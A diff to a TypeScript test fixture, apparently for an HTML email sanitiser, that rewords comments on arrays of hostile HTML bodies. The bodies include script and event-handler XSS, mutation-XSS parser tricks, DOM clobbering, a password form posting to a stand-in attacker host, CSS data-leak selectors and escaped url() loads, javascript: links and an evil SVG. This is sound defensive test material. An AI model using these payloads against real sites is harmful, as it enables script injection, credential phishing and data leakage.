@@ -1,18 +1,18 @@
-// What runs says so: the console is watched, and so are dialogs.
+// Anything that runs is noticed: tests watch the console and dialogs.
 const RUN = "console.log('ran');alert('ran')";
 const AWAY = 'https://attacker.test';
 
-/** HTML bodies that try to run, to reach another host, or to take the page over. Each is one kind of attack. */
+/** HTML bodies that try to run scripts, contact another host, or take over the page. Each is one kind of attack. */
 export const hostileBodies: readonly (readonly [title: string, html: string])[] = [
   [
-    'scripts of every kind',
+    'all kinds of scripts',
     `<script>${RUN}</script><script src="${AWAY}/script.js"></script><script type="module">${RUN}</script>
 <svg><script>${RUN}</script></svg><svg><script href="data:text/javascript,${RUN}"/></svg><math><script>${RUN}</script></math>
 <SCRIPT\x20TYPE="text/javascript">${RUN}</SCRIPT><scr<script>ipt>${RUN}</scr</script>ipt>
 <script>${RUN}`,
   ],
   [
-    'event handlers on every element that fires one by itself',
+    'event handlers that fire without user action',
     `<body onload="${RUN}" onpageshow="${RUN}" onfocus="${RUN}" onmessage="${RUN}">
 <img src=x onerror="${RUN}"><img src="cid:missing" onerror="${RUN}"><image src=x onerror="${RUN}">
 <svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>
@@ -24,7 +24,7 @@ export const hostileBodies: readonly (readonly [title: string, html: string])[] 
 <iframe onload="${RUN}"></iframe><object data=x onerror="${RUN}"></object><link rel=stylesheet href=x onerror="${RUN}">`,
   ],
   [
-    'markup that a sanitiser and a browser read differently',
+    'markup that sanitisers and browsers parse differently',
     `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>
 <svg><style><img src=x onerror="${RUN}"></style></svg>
 <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">
@@ -37,7 +37,7 @@ export const hostileBodies: readonly (readonly [title: string, html: string])[] 
 <![CDATA[<img src=x onerror="${RUN}">]]><?xml <img src=x onerror="${RUN}">?>`,
   ],
   [
-    'elements named after what a sanitiser calls',
+    'DOM clobbering',
     `<form id=a><input name=attributes><input name=nodeName><input name=removeChild><input name=parentNode><img src=x onerror="${RUN}"></form>
 <form name=body></form><form name=documentElement></form><img name=querySelectorAll><img name=createElement>
 <a id=location href="${AWAY}">x</a><a id=top name=top>x</a><form onclick="${RUN}"><input name=children><input name=firstChild></form>`,
@@ -51,7 +51,7 @@ export const hostileBodies: readonly (readonly [title: string, html: string])[] 
 <applet code="${AWAY}/applet"></applet><portal src="${AWAY}/portal"></portal><fencedframe src="${AWAY}/fenced"></fencedframe>`,
   ],
   [
-    'meta refresh, base and links that load',
+    'meta refresh, base and link elements',
     `<base href="${AWAY}/" target="_top"><meta http-equiv="refresh" content="0;url=${AWAY}/refresh">
 <meta http-equiv="Refresh" content="0;url=javascript:${RUN}"><meta http-equiv="Content-Security-Policy" content="default-src *">
 <meta http-equiv="set-cookie" content="taken=1"><img src="relative.png">
@@ -60,13 +60,13 @@ export const hostileBodies: readonly (readonly [title: string, html: string])[] 
 <link rel=icon href="${AWAY}/icon.png"><link rel=manifest href="${AWAY}/manifest"><link rel=modulepreload href="${AWAY}/module.js">`,
   ],
   [
-    'forms that would send what a person types',
+    'forms that submit to another host',
     `<form action="${AWAY}/form" method=post><label>Password <input name=password type=password autofocus></label><button>Log in again</button>
 <button formaction="${AWAY}/formaction">Other</button><input type=image src="${AWAY}/image.png" formaction="javascript:${RUN}"></form>
 <form action="/api/v1/messages" method=post><input type=submit value="Free gift"></form><isindex action="javascript:${RUN}" type=submit>`,
   ],
   [
-    'addresses in every attribute that loads one',
+    'URLs in every attribute that loads one',
     `<img src="${AWAY}/img.png"><img srcset="${AWAY}/1x.png 1x, ${AWAY}/2x.png 2x"><img src="//attacker.test/relative.png">
 <img src=" https://attacker.test/space.png"><img src="https:/attacker.test/slash.png"><img src="&#104;ttps://attacker.test/entity.png">
 <img src="http:\\\\attacker.test\\backslash.png"><img src="x" lowsrc="${AWAY}/lowsrc.png" dynsrc="${AWAY}/dynsrc.png" longdesc="${AWAY}/longdesc">
@@ -77,7 +77,7 @@ export const hostileBodies: readonly (readonly [title: string, html: string])[] 
 <a href="#x" ping="${AWAY}/ping">x</a><q cite="${AWAY}/cite">x</q><html manifest="${AWAY}/manifest"><img src="ws://attacker.test/ws"><img src="ftp://attacker.test/ftp.png"><img src="blob:${AWAY}/blob">`,
   ],
   [
-    'styles that would load or leak',
+    'style sheets that load URLs',
     `<style>@import "${AWAY}/import.css"; @import url(${AWAY}/import2.css) layer(x); @\\69mport url(${AWAY}/import3.css);
 @font-face{font-family:leak;src:url(${AWAY}/font.woff2);unicode-range:U+0-10FFFF} body{font-family:leak}
 body{background:url(${AWAY}/bg.png)} p{background:\\75rl(${AWAY}/escaped.png)} p::before{content:url(${AWAY}/content.png)}
@@ -91,7 +91,7 @@ input[value^="a"]{background:url(${AWAY}/value-a.png)} a:visited{background:url(
 <style>p{background:url(${AWAY}/unclosed.png`,
   ],
   [
-    'styles that hide an address in what the browser does not read until it is used',
+    'style sheets with hidden URLs',
     String.raw`<style>@im\70ort url(${AWAY}/import4.css); @im\port "${AWAY}/import5.css";
 p{--a:u\72 l(${AWAY}/hidden1.png);background:var(--a)} b{--b:image-set("${AWAY}/hidden2.png" 1x);background:var(--b)}
 i{background:var(--none, u\72 l(${AWAY}/hidden3.png))} u{--c:"${AWAY}/hidden4.png";background-image:image-set(var(--c) 1x)}
@@ -101,7 +101,7 @@ i{background:var(--none, u\72 l(${AWAY}/hidden3.png))} u{--c:"${AWAY}/hidden4.pn
 <p style="background:var(--none, image-set('${AWAY}/hidden9.png' 1x))">i</p>`,
   ],
   [
-    'links that are scripts, or that would take the whole page away',
+    'links that run scripts or navigate the page',
     [
       `javascript:${RUN}`,
       `JaVaScRiPt:${RUN}`,
@@ -122,18 +122,18 @@ i{background:var(--none, u\72 l(${AWAY}/hidden3.png))} u{--c:"${AWAY}/hidden4.pn
 <map name=m><area href="javascript:${RUN}" coords="0,0,9,9"></map><a href="#top" target=_top>press me</a>`,
   ],
   [
-    'pictures that are documents',
+    'images that are documents',
     `<img src="cid:evil.svg@attacker.test"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'><image href='${AWAY}/data-svg.png'/></svg>">
 <img src="cid:../../../../api/v1/info"><img src="cid:%2e%2e%2fraw"><img src='cid:x" onerror="${RUN}'><img src="cid:"><img src="/api/v1/messages"><img src="cid:a?b#c">`,
   ],
   [
-    'a layer over everything',
+    'an overlay on top of everything',
     `<style>html,body{position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;background:#fff}*{pointer-events:none}</style>
 <div style="position:fixed;inset:0;width:200000px;height:200000px;z-index:2147483647;background:red">Your inbox is empty</div><dialog open>x</dialog><div popover=auto>x</div>`,
   ],
 ];
 
-/** An SVG that would run and load if it were treated as a document. */
+/** An SVG that would run scripts and load images if it were treated as a document. */
 export const evilSvg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${RUN}">
 <script>${RUN}</script><image xlink:href="${AWAY}/cid-svg.png" width="9" height="9"/>
 <foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${AWAY}/foreign.png" onerror="${RUN}"/></body></foreignObject>
